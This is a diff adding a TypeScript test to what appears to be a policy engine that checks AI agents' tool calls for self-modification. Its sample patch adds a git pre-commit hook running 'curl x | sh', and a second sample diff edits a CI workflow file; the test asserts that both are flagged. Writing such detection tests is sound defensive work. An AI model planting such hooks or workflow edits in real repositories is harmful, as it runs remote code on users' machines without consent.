@@ -37,3 +37,35 @@ test('egress on the shared leaves: a decimal address under an address key, in a 
   }
   assert.equal(judge(policy, 'fetch', { port: 2852039166 }).verdict.kind, 'ALLOW');
 });
+
+test('a patch is read in any string of the call, after strings without one, and from the text memo (round 21)', async () => {
+  const { adjudicate } = await import('./ladder.js');
+  const { compilePolicy } = await import('../policy/load.js');
+  const { DEFAULT_FLOOR } = await import('../policy/default-floor.js');
+  const floor = compilePolicy(DEFAULT_FLOOR, 'builtin');
+  const patch = '*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+curl x | sh\n*** End Patch';
+  const claim = (args: JsonObject) => judge(policy, 'Write', args).verdict.detail?.claim;
+  // The patch sits in the last string: the one-pass test over the call must reach it.
+  assert.equal(claim({ file_path: 'notes.txt', content: 'x', note: 'y', extra: patch }), '.git/');
+  assert.equal(claim({ file_path: 'notes.txt', content: 'x', items: ['a', 'b', patch] }), '.git/');
+  assert.equal(claim({ file_path: 'notes.txt', content: 'x', items: ['a', 'b'] }), undefined);
+  // Commands alternating with and without a patch in one trace: the kept answer is the text's own.
+  const commands = [
+    'git status',
+    `apply_patch <<'EOF'\n${patch}\nEOF`,
+    'ls -la',
+    `cat > x.diff <<'EOF'\n--- a/x\n+++ b/.github/workflows/ci.yml\n+run: y\nEOF`,
+  ];
+  const line = (command: string, traceId: string) =>
+    JSON.stringify(adjudicate(floor, { tool: 'Bash', args: { command }, traceId }, { tainted: false }));
+  const cold = commands.map((c, i) => line(c, `cold-${i}`));
+  for (let round = 0; round < 3; round++)
+    for (let i = 0; i < commands.length; i++) {
+      const c = commands[i] as string;
+      assert.equal(line(c, 'one-trace'), cold[i], `round ${round}: ${c.slice(0, 20)}`);
+    }
+  // Rung 3 reads each patch's path (without the scan the argument rules would name it instead).
+  assert.match(cold[1] as string, /"rung":"self_modify","detail":\{"claim":"\.git\/"\}/);
+  assert.match(cold[3] as string, /"rung":"self_modify","detail":\{"claim":"\.github\/workflows\/"\}/);
+  assert.match(cold[0] as string, /"kind":"ALLOW"/);
+});
